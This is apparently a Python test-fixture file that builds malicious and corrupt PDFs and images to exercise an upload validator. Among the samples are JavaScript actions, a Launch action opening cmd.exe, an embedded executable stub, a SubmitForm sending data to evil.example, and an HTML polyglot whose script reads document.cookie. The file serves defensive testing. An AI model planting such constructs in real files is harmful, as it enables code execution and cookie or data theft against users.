"""Hostile and damaged document files for the upload checks (real PDFs, built byte by byte with a
correct cross-reference, so that only the feature under test is wrong)."""

from __future__ import annotations

from tests.support import factories

CATALOG = b"<< /Type /Catalog /Pages 2 0 R%s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]%s >>"


def build_pdf(objects: list[bytes], trailer_extra: bytes = b"", unlisted: bytes = b"") -> bytes:
    """A PDF of ``objects`` (numbered from 1, object 1 the catalogue) with an exact xref table;
    ``unlisted`` is written in the body but left out of the cross-reference."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += unlisted
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\n" % (len(objects) + 1, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def page_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes) -> bytes:
    """One empty page; extra entries in the catalogue / page and extra objects (4, 5, ...)."""
    return build_pdf([CATALOG % catalog_extra, PAGES, PAGE % page_extra, *more])


PLAIN = page_pdf(b" /OpenAction [3 0 R /Fit]")  # "open at page 1": allowed
LINK = page_pdf(
    b"",
    b" /Annots [4 0 R]",
    b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] "
    b"/A << /S /URI /URI (https://tangerangkota.go.id) >> >>",
)
JAVASCRIPT_NAMES = page_pdf(
    b" /Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
    b"",
    b"<< /S /JavaScript /JS (app.alert('x')) >>",
)
JAVASCRIPT_OPEN_ACTION = page_pdf(
    b" /OpenAction 4 0 R",
    b"",
    b"<< /S /JavaScript /JS 5 0 R >>",
    b"<< /Length 14 >>\nstream\napp.alert('x')\nendstream",
)
JAVASCRIPT_PAGE_AA = page_pdf(b"", b" /AA << /O 4 0 R >>", b"<< /S /JavaScript /JS (x()) >>")
JAVASCRIPT_HEX_ESCAPED = page_pdf(b" /OpenAction 4 0 R", b"", b"<< /S /J#61vaScript /J#53 (x()) >>")
JAVASCRIPT_UNREFERENCED = build_pdf(
    [CATALOG % b"", PAGES, PAGE % b""],
    unlisted=b"9 0 obj\n<< /S /JavaScript /JS (x()) >>\nendobj\n",
)
LAUNCH = page_pdf(b" /OpenAction 4 0 R", b"", b"<< /S /Launch /F (cmd.exe) >>")
GOTO_REMOTE = page_pdf(b" /OpenAction 4 0 R", b"", b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")
EMBEDDED_FILE = page_pdf(
    b" /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
    b"",
    b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
    b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
)
FILE_ATTACHMENT = page_pdf(
    b"",
    b" /Annots [4 0 R]",
    b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.txt) >>",
)
XFA = page_pdf(
    b" /AcroForm << /Fields [] /XFA 4 0 R >>", b"", b"<< /Length 7 >>\nstream\n<xdp/>\nendstream"
)
RICH_MEDIA = page_pdf(
    b"", b" /Annots [4 0 R]", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"
)
SUBMIT_FORM = page_pdf(
    b" /OpenAction 4 0 R", b"", b"<< /S /SubmitForm /F (https://evil.example/) >>"
)

POLYGLOT = b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n"
TRUNCATED = factories.PDF[: len(factories.PDF) // 2]  # no xref, no trailer, no %%EOF
WITHOUT_XREF = factories.PDF[: factories.PDF.rindex(b"xref")] + b"%%EOF\n"
HTML_AFTER_EOF = factories.PDF + b"<html><script>alert(1)</script></html>"
OLD_FAKE = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
NO_PAGE = build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])
XREF_OFF_BY_ONE = PLAIN.replace(b"\nstartxref\n", b"\nstartxref\n1", 1)


def encrypted_pdf(source: bytes, user_password: str) -> bytes:
    """``source`` encrypted by pypdf (AES-128); an empty user password opens without asking."""
    import io

    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(source)))
    writer.encrypt(user_password=user_password, owner_password="pemilik", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_attachment(pdf: bytes = factories.PDF) -> bytes:
    """A real PDF with an attached file, written by pypdf."""
    import io

    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.add_attachment("lampiran.txt", b"isi lampiran")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def corrupt_png() -> bytes:
    """A PNG whose image data is overwritten (header intact, so only decoding can tell)."""
    png = factories.image_bytes("PNG", (64, 64))
    start = png.index(b"IDAT") + 8
    return png[:start] + b"\x00" * 24 + png[start + 24 :]


def truncated(image: bytes) -> bytes:
    return image[: len(image) // 2]


def corrupt_jpeg() -> bytes:
    """A JPEG cut after its headers, with garbage where the scan data was."""
    jpeg = factories.image_bytes("JPEG", (64, 64))
    scan = jpeg.index(b"\xff\xda")
    return jpeg[: scan + 2] + b"\x00\x01" + b"\xff" * 200


def pdf_of_size(size: int) -> bytes:
    """A valid one-page PDF of exactly ``size`` bytes (the padding is an unused stream object)."""
    padding = size - len(_padded(0))
    for _ in range(4):  # the digits of /Length and of the offsets grow with the padding
        data = _padded(max(padding, 0))
        if len(data) == size:
            return data
        padding += size - len(data)
    raise ValueError(f"cannot build a PDF of {size} bytes")


def _padded(length: int) -> bytes:
    stream = b"<< /Length %d >>\nstream\n" % length + b"0" * length + b"\nendstream"
    return page_pdf(b"", b"", stream)
